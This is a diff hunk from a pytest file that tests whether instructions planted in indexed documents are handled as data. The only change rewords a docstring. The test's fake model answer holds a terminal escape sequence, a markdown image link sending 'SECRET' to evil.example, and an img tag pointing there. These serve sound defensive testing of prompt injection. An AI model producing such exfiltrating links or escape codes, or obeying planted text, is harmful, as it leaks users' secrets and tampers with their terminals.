@@ -222,7 +222,7 @@ INJECTIONS = {
 
 @pytest.mark.parametrize("kind", INJECTIONS)
 def test_instructions_planted_in_a_document_are_data(library: Library, llm: FakeLlm, tmp_path: Path, kind: str) -> None:
-    """What is planted stays between marks that it cannot know, and an obeying model's answer can do no harm."""
+    """Planted text stays between marks that it cannot know, and an obeying model's answer can do no harm."""
     write(tmp_path / "evil" / "a.txt", INJECTIONS[kind])
     library.index(tmp_path / "evil")
     llm.answers("\x1b]0;OWNED\x07OWNED ![w](https://evil.example/p?d=SECRET) <img src=//evil.example/p> [1] [9]")
